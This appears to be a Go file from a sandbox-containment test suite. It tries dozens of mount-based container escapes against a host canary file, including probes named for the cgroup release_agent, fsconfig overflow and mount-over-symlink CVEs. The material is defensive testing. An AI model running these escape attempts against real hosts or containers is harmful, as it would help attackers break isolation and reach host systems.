package escape

import (
	"fmt"
	"os"
	"path/filepath"
	"unsafe"

	"golang.org/x/sys/unix"
)

// mountSort is a kind of file system that would show or change something of the host.
type mountSort struct{ name, sort, source, data, look string }

func mountSorts() []mountSort {
	return []mountSort{
		{"proc", "proc", "proc", "", "sys/kernel/core_pattern"},
		{"sysfs", "sysfs", "sysfs", "", "kernel/uevent_helper"},
		{"devices", "devtmpfs", "dev", "", "mem"},
		{"terminals", "devpts", "devpts", "ptmxmode=0666", "ptmx"},
		{"cgroup-v1", "cgroup", "cgroup", "memory", "release_agent"},
		{"cgroup-rdma", "cgroup", "cgroup", "rdma", "release_agent"},
		{"cgroup-v2", "cgroup2", "cgroup", "", "cgroup.procs"},
		{"debug", "debugfs", "debug", "", "tracing"},
		{"trace", "tracefs", "trace", "", "kprobe_events"},
		{"security", "securityfs", "security", "", "apparmor"},
		{"bpf", "bpf", "bpf", "", "."},
		{"disk", "ext4", "/dev/vda", "", "etc"},
		{"disk-by-number", "ext4", "/tmp/escape-disk", "", "etc"},
		{"fuse", "fuse", "fuse", "fd=0,rootmode=40000,user_id=0,group_id=0", "."},
		{"plan9", "9p", "host", "trans=virtio", "."},
		{"virtio", "virtiofs", "host", "", "."},
		{"nfs", "nfs", "127.0.0.1:/", "addr=127.0.0.1", "."},
		{"cifs", "cifs", "//127.0.0.1/host", "", "."},
		{"binary-formats", "binfmt_misc", "binfmt", "", "register"},
		{"messages", "mqueue", "mqueue", "", "."},
		{"config", "configfs", "config", "", "."},
		{"firmware", "efivarfs", "efivars", "", "."},
		{"gofer", "gofer", "/", "rfdno=3", "."},
		{"erofs", "erofs", "/dev/vda", "ifd=3", "."},
	}
}

func mountAttempts() []Attempt {
	var list []Attempt
	refused := noCall(unix.ENODEV, unix.ENOENT, unix.EINVAL, unix.ENOTBLK, unix.EROFS, unix.EBUSY)
	for _, m := range mountSorts() {
		list = append(list, Attempt{Name: "mount-" + m.name,
			What: "mount " + m.sort + " and look for " + m.look + " of the host", Refused: refused,
			Contained: "the mount shows the sandbox's own kernel", Marks: call(unix.SYS_MOUNT),
			try: func(s *Scene) error { return mountAndLook(s, m) }})
	}
	return append(list, mountTricks(refused)...)
}

// mountAndLook mounts, writes to what it looks for where that is a control file, and reads the
// canary through it.
func mountAndLook(s *Scene, m mountSort) error {
	dir, err := fresh()
	if err != nil {
		return err
	}
	if err := unix.Mount(m.source, dir, m.sort, 0, m.data); err != nil {
		return fmt.Errorf("mount: %w", err)
	}
	for _, below := range []string{s.Canary, "/.." + s.Canary} {
		if err, found := s.peek(dir + below).(reached); found {
			return err
		}
	}
	if m.look == "release_agent" {
		return releaseAgent(dir)
	}
	return nil
}

// releaseAgent is CVE-2022-0492: a program that the host's kernel starts when a group is empty.
func releaseAgent(dir string) error {
	if err := write(dir+"/release_agent", "/tmp/surety-escape-release"); err != nil {
		return nil // the mount is the sandbox's own and has no such file
	}
	group := dir + "/surety-escape"
	if err := os.Mkdir(group, 0o755); err != nil {
		return nil
	}
	write(group+"/notify_on_release", "1")
	write(group+"/cgroup.procs", "0")
	return nil
}

func mountTricks(refused []unix.Errno) []Attempt {
	own := "mounts of the sandbox are its own"
	return []Attempt{
		{Name: "bind-root", What: "bind the root elsewhere and look for the canary above it",
			Refused: refused, Contained: own, Marks: call(unix.SYS_MOUNT), try: bindRoot},
		{Name: "bind-over-proc", What: "bind a directory of our own over /proc/self/attr",
			Refused: refused, Contained: own, Marks: call(unix.SYS_MOUNT), try: func(*Scene) error {
				return unix.Mount("/tmp", "/proc/self/task", "", unix.MS_BIND, "")
			}},
		{Name: "overlay-root", What: "mount an overlay over the root with a layer of our own",
			Refused: refused, Contained: own, Marks: call(unix.SYS_MOUNT), try: overlayRoot},
		{Name: "propagate", What: "make the root mount shared, so that mounts reach the host",
			Refused: refused, Contained: own, Marks: call(unix.SYS_MOUNT), try: func(*Scene) error {
				return unix.Mount("", "/", "", unix.MS_SHARED|unix.MS_REC, "")
			}},
		{Name: "remount-root", What: "remount the root writable", Refused: refused, Contained: own,
			Marks: call(unix.SYS_MOUNT), try: func(*Scene) error {
				return unix.Mount("", "/", "", unix.MS_REMOUNT, "")
			}},
		{Name: "pivot-root", What: "pivot_root to a new root and look at the old one",
			Refused: refused, Contained: own, Marks: call(unix.SYS_MOUNT), try: pivot},
		{Name: "detach-root", What: "detach the root mount and look at what lies below",
			Refused: refused, Contained: own, Marks: call(unix.SYS_UMOUNT2), try: func(s *Scene) error {
				if err := unix.Unmount("/", unix.MNT_DETACH); err != nil {
					return err
				}
				return notThere(s.peek(s.Canary))
			}},
		{Name: "unmask-proc", What: "unmount /proc, to find the one below", Refused: refused,
			Contained: own, Marks: call(unix.SYS_UMOUNT2), try: func(s *Scene) error {
				return unix.Unmount("/proc/sys", unix.MNT_DETACH)
			}},
		{Name: "open-tree", What: "clone the root's mount tree by open_tree and look above it",
			Refused: refused, Contained: own, Marks: call(unix.SYS_OPEN_TREE), try: openTree},
		{Name: "move-mount", What: "move the root mount by move_mount",
			Refused: append(refused, unix.ELOOP), Contained: own,
			Marks: call(unix.SYS_MOVE_MOUNT), try: func(*Scene) error {
				root := []byte("/\x00")
				return sys(unix.SYS_MOVE_MOUNT, here, uintptr(unsafe.Pointer(&root[0])), here,
					uintptr(unsafe.Pointer(&root[0])), 0)
			}},
		{Name: "mount-attributes", What: "clear read-only of every mount by mount_setattr",
			Refused: refused, Contained: own, Marks: call(unix.SYS_MOUNT_SETATTR),
			try: func(*Scene) error {
				return unix.MountSetattr(unix.AT_FDCWD, "/", unix.AT_RECURSIVE,
					&unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY})
			}},
		{Name: "file-context", What: "CVE-2022-0185: overflow a parameter of fsconfig",
			Refused: refused, Contained: own, Marks: call(unix.SYS_FSOPEN), try: fileContext},
		{Name: "mount-over-self", What: "CVE-2021-30465: mount over a symbolic link that leads out",
			Refused: append(refused, unix.ENOTDIR, unix.ELOOP), Contained: own,
			Marks: call(unix.SYS_MOUNT), try: mountOverLink},
	}
}

// notThere turns "the canary could not be opened" into success of the act before it.
func notThere(err error) error {
	if _, found := err.(reached); found {
		return err
	}
	return nil
}

func bindRoot(s *Scene) error {
	dir, err := fresh()
	if err != nil {
		return err
	}
	if err := unix.Mount("/", dir, "", unix.MS_BIND|unix.MS_REC, ""); err != nil {
		return err
	}
	for _, up := range []string{"", "/..", "/../../.."} {
		if err, found := s.peek(dir + up + s.Canary).(reached); found {
			return err
		}
	}
	return nil
}

func overlayRoot(s *Scene) error {
	dir, err := fresh()
	if err != nil {
		return err
	}
	for _, name := range []string{"upper", "work", "merged"} {
		if err := os.Mkdir(filepath.Join(dir, name), 0o755); err != nil {
			return err
		}
	}
	options := fmt.Sprintf("lowerdir=/,upperdir=%s/upper,workdir=%s/work", dir, dir)
	if err := unix.Mount("overlay", dir+"/merged", "overlay", 0, options); err != nil {
		return err
	}
	return notThere(s.peek(dir + "/merged" + s.Canary))
}

func pivot(s *Scene) error {
	dir, err := fresh()
	if err != nil {
		return err
	}
	if err := unix.Mount("none", dir, "tmpfs", 0, ""); err != nil {
		return fmt.Errorf("mount: %w", err)
	}
	if err := os.Mkdir(dir+"/old", 0o755); err != nil {
		return err
	}
	if err := unix.PivotRoot(dir, dir+"/old"); err != nil {
		return fmt.Errorf("pivot_root: %w", err)
	}
	for _, up := range []string{"/old", "/old/..", "/old/../.."} {
		if err, found := s.peek(up + s.Canary).(reached); found {
			return err
		}
	}
	return nil
}

func openTree(s *Scene) error {
	fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.AT_RECURSIVE)
	if err != nil {
		return err
	}
	return notThere(s.peek(fmt.Sprintf("/proc/self/fd/%d/..%s", fd, s.Canary)))
}

// fileContext sends a parameter longer than a page: the overflow was in adding its length.
func fileContext(*Scene) error {
	fd, err := unix.Fsopen("ext4", 0)
	if err != nil {
		return err
	}
	key, value := "surety", make([]byte, 4095)
	for i := range value {
		value[i] = 'A'
	}
	for range 4 {
		if err := unix.FsconfigSetString(fd, key, string(value[:255])); err != nil {
			return err
		}
	}
	return nil
}

func mountOverLink(s *Scene) error {
	dir, err := fresh()
	if err != nil {
		return err
	}
	if err := os.Symlink("/proc/1/root", dir+"/out"); err != nil {
		return err
	}
	if err := unix.Mount("none", dir+"/out"+filepath.Dir(s.Canary), "tmpfs", 0, ""); err != nil {
		return err
	}
	return nil
}
